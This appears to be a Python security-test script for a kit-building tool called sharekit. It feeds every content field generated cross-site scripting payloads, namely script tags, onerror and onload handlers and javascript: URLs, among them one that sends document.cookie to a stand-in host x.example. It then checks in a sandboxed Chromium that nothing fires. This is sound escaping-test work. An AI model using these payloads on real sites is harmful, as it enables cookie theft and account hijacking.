"""Put hostile and naughty strings through the whole command, and open what comes out in Chromium.

    python benchmarks/payloads.py [--most N] [FILE ...]

A FILE is a JSON list of strings; without one, the strings are put together here. Each string is the title, a
quotation, its speaker and role, the place, a speaker of the event, part of a link, a group and a paragraph
of one kit, and in its settings the organisation, its handle, a hashtag and its own reason; `sharekit build`
makes it of files. Where a field refuses a string, or a card has no room for it, that is counted, and the
field left out. The page is opened with all unfolded and one post copied. A page with the same strings
unescaped shows that the counters count.
"""

from __future__ import annotations

import argparse
import contextlib
import html
import io
import itertools
import json
import shutil
import tempfile
from collections import Counter
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

from playwright.sync_api import Page, Route, sync_playwright

from sharekit.cli.app import app
from sharekit.errors import ExitCode

_FIELDS = (
    *("title", "quotation", "speaker", "role", "place", "link", "organisation", "group", "hashtag", "text"),
    *("guest", "why", "handle"),
)
_LISTEN = """
window.fired = []; window.copied = [];
for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'])
    window[name] = (words) => { window.fired.push(`${name} ${words}`); };
document.addEventListener('copy', () => window.copied.push(document.activeElement.value));
"""
_LOOK = """() => {
    for (const place of ['#now .tile', '.tile', '#now .main']) document.querySelector(place)?.click();
    document.querySelectorAll('details').forEach((row) => { row.open = true; });
    const every = [...document.querySelectorAll('*')];
    return {
        fired: window.fired.length,
        handlers: every.filter((one) => one.getAttributeNames().some((name) => name.startsWith('on'))).length,
        scripts: document.scripts.length,
        frames: document.querySelectorAll('iframe, frame, object, embed, base, form, link, math').length,
        harmful: every.filter((one) => /^\\s*(javascript|data|vbscript):/i.test(one.getAttribute('href') || '')).length,
        copied: window.copied,
        texts: Object.fromEntries([...document.querySelectorAll('pre[id^=text-]')].map((one) => [one.id.slice(5), one.textContent])),
    };
}"""  # noqa: E501
_ENDS = (
    "",
    '">',
    "'>",
    "</pre>",
    "</textarea>",
    "</script>",
    "</title></style>",
    "-->",
    "]]>",
    '\\\\"};',
    "${",
    "{{",
)
_CALLS = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "&#97;lert(1)",
    "location='//x.example/'+document.cookie",
)
_FORMS = (
    *(
        "<script>{}</script>",
        "<ScRiPt/x>{}//",
        "<img src=x onerror={}>",
        "<svg onload={}>",
        "<body onload={}>",
    ),
    *("<svg><script>{}</script>", "<iframe src=javascript:{}>", '<iframe srcdoc="<script>{}</script>">'),
    *("<details open ontoggle={}>", "<input autofocus onfocus={}>", '<a href="javascript:{}">a</a>'),
    *("<video><source onerror={}>", "<math href=javascript:{}>", "<object data=javascript:{}>"),
    *("<form action=javascript:{}><button>", "<base href=javascript:{}//>", "' onmouseover={} x='"),
)


def main() -> None:
    """Print how many strings went through how many fields, and what became of them."""
    options = argparse.ArgumentParser()
    options.add_argument("--most", type=int)
    options.add_argument("files", nargs="*", type=Path)
    given = options.parse_args()
    strings = [each for file in given.files for each in json.loads(file.read_text("utf-8"))] or [*_made()]
    strings = [each for each in dict.fromkeys(strings) if each.strip()][: given.most]
    found: Counter[str] = Counter()
    with sync_playwright() as started, tempfile.TemporaryDirectory() as place:
        chromium = started.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
        page = chromium.new_page()
        page.add_init_script(_LISTEN)
        asked: list[str] = []

        def refuse(route: Route) -> None:
            asked.append(route.request.url)
            route.abort()

        page.route(lambda url: not url.startswith("file:"), refuse)
        page.on("dialog", lambda dialog: dialog.dismiss())
        found["fired by the page without escapes"] = _control(page, Path(place), strings)
        asked.clear()
        for number, words in enumerate(strings):
            folder = Path(place) / str(number % 2)
            shutil.rmtree(folder, ignore_errors=True)
            folder.mkdir()
            taken = _built(folder, words, found)
            if taken:
                found["payload × field"] += len(taken)
                found.update(_faults(page, folder / "kit", words, taken))
        found["requests"] = len(asked)
        chromium.close()
    print(f"{len(strings)} strings: {json.dumps(found, ensure_ascii=False, indent=1)}")


def _made() -> Iterator[str]:
    for end, form, call in itertools.product(_ENDS, _FORMS, _CALLS):
        yield end + form.format(call)


def _built(folder: Path, words: str, found: Counter[str]) -> tuple[str, ...]:
    """Build the kit; return the fields that took the words."""
    taken: tuple[str, ...] = _FIELDS
    while taken:
        _write(folder, {name: words if name in taken else "plain" for name in _FIELDS})
        said = io.StringIO()
        arguments = [
            "build",
            "day.toml",
            "-o",
            "kit",
            "--groups",
            "groups.csv",
            "--date",
            "2027-03-01",
            "--cards",
            "1",
        ]
        small = ["--formats", "square", "--kinds", "event", "--platforms", "x,facebook,email", "--force"]
        with contextlib.chdir(folder), contextlib.redirect_stderr(said), contextlib.redirect_stdout(said):
            code = _ended(arguments + small)
        if code == ExitCode.DONE:
            return taken
        line = said.getvalue().strip().splitlines()
        name = next(
            (name for name in taken if any(_NAMED.get(name, name) in each for each in line[:1])), None
        )
        helped = code != ExitCode.UNEXPECTED and any(each.startswith("hint:") for each in line)
        if helped and name is None:  # the message quotes the words and names no field: what a card shows goes
            name = next((shown for shown in _SHOWN if shown in taken), None)
        if not helped or name is None:
            found["refused whole" if helped else "unexpected"] += 1
            print(f"{words!r}: {code} {line}", flush=True)
            return ()
        found[f"refused as {name}"] += 1
        taken = tuple(each for each in taken if each != name)
    return ()


_SHOWN = ("title", "place", "guest", "role", "organisation")
_NAMED = {"quotation": "quotes", "hashtag": "hashtags", "group": "groups.csv", "guest": "speakers"}


def _ended(arguments: list[str]) -> int:
    try:
        app(arguments)
    except SystemExit as end:
        return int(end.code or 0)
    return 0


def _write(folder: Path, row: Mapping[str, str]) -> None:
    """Write the files of a kit; entities hide the words from whatever takes tags out of them."""
    said = {name: _in_toml(html.escape(words)) for name, words in row.items()}
    lines = (
        f'language = "en"\nlink = {_in_toml("https://quay.example/?a=" + row["link"])}',
        f"text = {said['text']}",
        f"[[quotes]]\ntext = {said['quotation']}\nspeaker = {said['speaker']}\nrole = {said['role']}",
        f"[event]\ntitle = {said['title']}\nstart = 2027-05-22T10:00:00\nplace = {said['place']}",
        f"speakers = [{{ name = {said['guest']}, role = {said['role']} }}]",
    )
    (folder / "day.toml").write_text("\n".join(lines), encoding="utf-8")
    settings = {name: _in_toml(row[name]) for name in ("organisation", "hashtag", "why", "handle")}
    text = (
        f"why = {settings['why']}\nhashtags = [{settings['hashtag']}]\n"
        f"[organisation]\nname = {settings['organisation']}\n[brand]\nhandle = {settings['handle']}\n"
    )
    (folder / "sharekit.toml").write_text(text, encoding="utf-8")
    name = row["group"].replace('"', '""')
    (folder / "groups.csv").write_text(f'code,name\nquay,"{name}"\n', encoding="utf-8", errors="replace")


def _in_toml(words: str) -> str:
    """Return a string of TOML; JSON writes what lies beyond 16 bits in two halves, which TOML refuses."""
    escaped = (each if ord(each) > 0xFFFF else json.dumps(each)[1:-1] for each in words)  # noqa: PLR2004
    return f'"{"".join(escaped)}"'


def _faults(page: Page, kit: Path, words: str, taken: tuple[str, ...]) -> Iterator[str]:
    manifest = json.loads((kit / "kit.json").read_text("utf-8"))
    page.goto((kit / "index.html").as_uri())
    seen: dict[str, Any] = page.evaluate(_LOOK)
    posts = {post["id"]: post["text"] for post in manifest["posts"]}
    wrong = [name for name in ("fired", "handlers", "frames", "harmful") if seen[name]]
    if seen["scripts"] != 2:  # noqa: PLR2004  ours, and its data
        wrong.append("scripts")
    if seen["texts"] != posts:
        wrong.append("texts unequal")
    if not {*seen["copied"]} <= {*posts.values()} or bool(seen["copied"]) != bool(posts):
        wrong.append("copied unequal")
    kept = " ".join(words.split())
    if "title" in taken and kept.isprintable() and manifest["document"]["title"] != kept:
        yield "titles that were cleaned"
    if wrong:
        print(f"{words!r}: {wrong} {seen['copied'][:1]}", flush=True)
    yield from wrong


def _control(page: Page, folder: Path, strings: list[str]) -> int:
    (folder / "control.html").write_text(
        "<!doctype html>" + "\n<p>".join(each for each in strings[:200] if "location" not in each),
        encoding="utf-8",
        errors="replace",
    )
    page.goto((folder / "control.html").as_uri())
    page.wait_for_timeout(500)
    return int(page.evaluate("window.fired.length + document.querySelectorAll('[onerror], [onload]').length"))


if __name__ == "__main__":
    main()
